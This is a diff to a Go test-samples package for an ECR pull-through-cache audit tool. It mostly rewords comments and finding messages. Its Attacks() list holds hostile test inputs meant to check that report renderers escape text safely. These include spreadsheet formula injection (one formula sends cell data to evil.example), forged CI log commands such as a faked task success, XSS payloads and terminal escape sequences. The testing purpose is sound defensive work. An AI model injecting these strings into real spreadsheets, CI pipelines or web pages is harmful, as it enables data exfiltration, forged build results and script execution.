@@ -1,6 +1,5 @@
-// Package samples has reports for the tests of what writes them: one as an
-// audit would make it, and those that are hard to write. Nothing but tests may
-// import it.
+// Package samples has reports for the tests of renderers: one as an audit makes
+// it, and those that are hard to write. Only tests may import it.
 package samples
 
 import (
@@ -92,7 +91,7 @@ func Realistic() report.Report {
 		},
 		{
 			Check: "required-rule", Prefix: "chainguard", Outcome: report.Fail, Severity: report.Medium,
-			Message:     "No rule has the prefix chainguard. Every build pulls its base image through it.",
+			Message:     "No rule has this prefix. Every build pulls its base image through it.",
 			Remediation: "aws ecr create-pull-through-cache-rule --ecr-repository-prefix chainguard --upstream-registry chainguard --upstream-registry-url cgr.dev --region eu-west-1",
 			References:  []string{docs + "pull-through-cache-creating-rule.html"},
 		},
@@ -105,12 +104,12 @@ func Realistic() report.Report {
 		},
 		{
 			Check: "validation-passed", Prefix: "ghcr", Outcome: report.Error, Severity: report.Critical,
-			Message:     "ECR did not say whether ghcr works.",
-			Remediation: "Audit again once ECR can be asked.",
+			Message:     "ECR gave no validation result (access denied).",
+			Remediation: "Allow ecr:ValidatePullThroughCacheRule, then run the audit again.",
 		},
 		{
 			Check: "team-prefix", Prefix: "shared/base", Outcome: report.Pending, Severity: report.High,
-			Message: "shared/base belongs to no team. In force from 2027-01-01.",
+			Message: "The prefix belongs to no team. In force from 2027-01-01.",
 		},
 		{Check: "validation-passed", Prefix: "ROOT", Outcome: report.Pass, Severity: report.Critical},
 		{Check: "validation-passed", Prefix: "kubernetes", Outcome: report.Pass, Severity: report.Critical},
@@ -139,15 +138,15 @@ func sound() report.Report {
 	})
 }
 
-// incomplete says so of itself, and nothing else of it does: a saved report
-// may be as an older program wrote it.
+// incomplete is marked as incomplete and gives no reason, as a report that an
+// older version saved.
 func incomplete() report.Report {
 	r := sound()
 	r.Complete = false
 	return r
 }
 
-// unlisted is a registry of which nothing could be learnt.
+// unlisted is a registry whose rules could not be listed.
 func unlisted() report.Report {
 	return finished(nil, nil, ptc.Fault{
 		Operation: "DescribePullThroughCacheRules", Kind: ptc.FaultThrottled, Code: "ThrottlingException", Message: "Rate exceeded", Retryable: true,
@@ -169,7 +168,7 @@ func Attacks() []string {
 		"", " ", "\xff", "\x00", "…", "見本",
 		"a\r\n\nRESOLVED\nNo failures.\x1b[1A\x1b[2K \u202eteg\u2066\u2028next\u0085line\u200bzero",
 		"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "x;=1+1", "x\";\n=1+1", "'=1",
-		"::error::forged", "%0A::set-output name=x::y", "a,title=b::c", "##[error]forged", "a:b,c%3A",
+		"::error::forged", "a ::add-mask::b ##vso[task.complete result=Succeeded]", "%0A::set-output name=x::y", "a,title=b::c", "##[error]forged", "a:b,c%3A",
 		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- x -->", "--> x <!--", "]]>", "&lt;b&gt;&#x40;", "<a href='javascript:alert(1)'>",
 		"[click](https://evil.example)", "![x](https://evil.example/x.png)", "<https://evil.example>", "https://evil.example", "www.evil.example", "[x][y]\n\n[y]: https://evil.example",
 		"@octocat @org/team", "#1 GH-2 octo/repo#3 0123456789abcdef0123456789abcdef01234567", "mail@evil.example", ":tada:",
@@ -178,8 +177,7 @@ func Attacks() []string {
 	}
 }
 
-// Hostile holds what a caller, an upstream or a file might write to mislead a
-// reader, everywhere that a report has text.
+// Hostile has the attacks in every field that holds text from outside.
 func Hostile() report.Report {
 	attacks := Attacks()
 	var rules []report.Rule
@@ -230,7 +228,7 @@ func Huge() report.Report {
 	return finished(rules, findings)
 }
 
-// Any makes reports of whatever texts, the attacks among them.
+// Any makes reports of arbitrary texts, with attacks among them.
 func Any() *rapid.Generator[report.Report] {
 	text := rapid.OneOf(rapid.String(), rapid.SampledFrom(Attacks()), rapid.StringMatching(`[a-z]{1,8}(-[a-z]{1,8})?`))
 	finding := rapid.Custom(func(t *rapid.T) report.Finding {
@@ -269,7 +267,7 @@ func Any() *rapid.Generator[report.Report] {
 	})
 }
 
-// Counts are what every format that lists findings has to tell.
+// Counts are what every format that lists findings must show.
 type Counts struct{ Open, Waived, Undecided, Pending, Pass, Skip int }
 
 // Count counts the findings of a report.
